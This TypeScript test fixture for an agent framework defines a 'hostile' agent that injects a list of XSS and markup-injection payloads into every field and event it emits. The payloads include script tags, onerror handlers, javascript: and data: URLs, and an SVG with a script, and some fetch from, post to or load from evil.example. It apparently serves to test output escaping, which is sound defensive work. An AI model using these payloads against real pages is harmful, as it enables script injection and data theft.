/** An agent with hostile content in every name and text that it can set. */
import { agent } from '../../../src/agents/agent.ts'
import { fromJsonSchema } from '../../../src/core/schema/json-schema.ts'
import { type Component, createEvent } from '../../../src/core/ports/component.ts'

const SCRIPT = `globalThis.harmed=1;fetch('https://evil.example/')`

const SVG = `<svg xmlns="http://www.w3.org/2000/svg"><script>${SCRIPT}</script><image href="https://evil.example/"/></svg>`

function base64(text: string): string {
  return Buffer.from(text).toString('base64')
}

/** Each of these has once caused harm on some page. */
export const ATTACKS: readonly string[] = [
  `<script>${SCRIPT}</script>`,
  `<img src=x onerror="${SCRIPT}">`,
  `<svg onload="${SCRIPT}"><a xlink:href="javascript:${SCRIPT}">x</a></svg>`,
  `<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>`,
  `[click](javascript:globalThis.harmed=1) [click](data:text/html,<script>1</script>) <javascript:globalThis.harmed=1>`,
  `![x](https://evil.example/pixel.png) ![x](x" onerror="${SCRIPT})`,
  `"><style>*{background:url(https://evil.example/)}</style><base href="https://evil.example/">`,
  `<form action="https://evil.example/"><input name=key></form>`,
  '```\n</code></pre><script>globalThis.harmed=1</script>\n```',
  `{{constructor.constructor('globalThis.harmed=1')()}}`,
  `[x](JaVaScRiPt:globalThis.harmed=1) [x](java\tscript:globalThis.harmed=1) [x](  javascript:globalThis.harmed=1) [x](blob:x)`,
  `![x](data:image/svg+xml;base64,${base64(SVG)}) ![x](data:image/svg+xml,${encodeURIComponent(SVG)}) <data:text/html,x>`,
  `<math><mtext></mtext><style><img src=x onerror="${SCRIPT}"></style></math><details open ontoggle="${SCRIPT}">`,
  `[a]: javascript:globalThis.harmed=1\n\n[a] | <a href="javascript:globalThis.harmed=1">x</a> | <object data="data:text/html,x">`,
  '\u202Egnirts desrever\u202C \u0000 \uD800 <!-- --><![CDATA[ ]]>',
]

const all = ATTACKS.join('\n\n')
const short = ATTACKS[1]!.slice(0, 200)

const member: Component = agent<unknown>({
  id: `member ${short}`.slice(0, 200),
  async *run() {
    yield all
    throw new Error(all)
  },
})

export const hostile: Component = agent({
  id: 'hostile',
  name: `Hostile ${short}`,
  description: all,
  input: fromJsonSchema({
    properties: {
      [short]: { type: 'string', title: short, description: all, examples: [short], default: all },
      choice: { title: all, enum: [short, { [short]: all }] },
      json: { title: short, type: short, default: { [short]: all } },
    },
  }),
  async *run(_input, context) {
    yield all
    yield createEvent('reasoning.delta', { text: all })
    yield createEvent('tool.drafted', { call: 'draft', name: short, delta: all })
    yield createEvent('tool.called', { call: 'draft', name: short, input: { [short]: all } })
    yield createEvent('tool.progressed', { call: 'draft', output: all })
    yield createEvent('tool.completed', { call: 'draft', name: short, output: { html: all } })
    yield createEvent('tool.called', { call: 'other', name: short, input: all })
    yield createEvent('tool.failed', { call: 'other', name: short, error: { code: short, message: all } })
    yield createEvent('model.requested', { request: 'r', model: short, provider: short })
    yield createEvent('model.responded', { request: 'r', model: short, finish: short, usage: { inputTokens: 1 } })
    yield createEvent('step.started', { step: 'a', name: short, details: all })
    yield createEvent('step.completed', { step: 'a', name: short, output: all })
    yield createEvent('step.skipped', { step: 'b', name: short, reason: all })
    yield createEvent('artifact.added', {
      artifact: 'svg',
      name: short,
      mediaType: 'image/svg+xml',
      text: SVG,
      last: true,
    })
    const bytes = base64(SVG)
    yield createEvent('artifact.added', { artifact: short, mediaType: 'image/svg+xml', bytes, last: true })
    yield createEvent('artifact.added', {
      artifact: 'x',
      name: all,
      mediaType: 'text/markdown',
      value: { [short]: all },
    })
    yield createEvent('artifact.added', { artifact: 'html', name: short, mediaType: 'text/html', bytes, last: true })
    yield createEvent('artifact.added', { artifact: 'png', name: short, mediaType: 'image/png', bytes, last: true })
    yield createEvent('artifact.added', {
      artifact: 'url',
      name: short,
      mediaType: short,
      url: 'javascript:globalThis.harmed=1',
    })
    for (const url of ['data:text/html,<script>1</script>', 'https://evil.example/"onmouseover="x', '//evil.example'])
      yield createEvent('source.cited', { source: short, title: all, url, mediaType: short })
    yield createEvent('source.cited', { source: 's', title: short, url: 'javascript:globalThis.harmed=1' })
    yield createEvent('state.replaced', { state: { [short]: all } })
    yield createEvent('state.patched', { patch: [{ op: 'add', path: `/${short}`, value: all }] })
    yield createEvent('custom.emitted', { name: short, value: all })
    await context.call(member, all).catch(() => {})
    await context.ask({ prompt: all, kind: 'choice', details: { choices: [short, 'go on'], html: all } })
    const schema = { properties: { [short]: { title: short, description: all, type: 'boolean' } } }
    await context.ask({ prompt: all, schema })
    yield createEvent('run.failed', { error: { code: short, message: all, details: { html: all } } })
  },
})
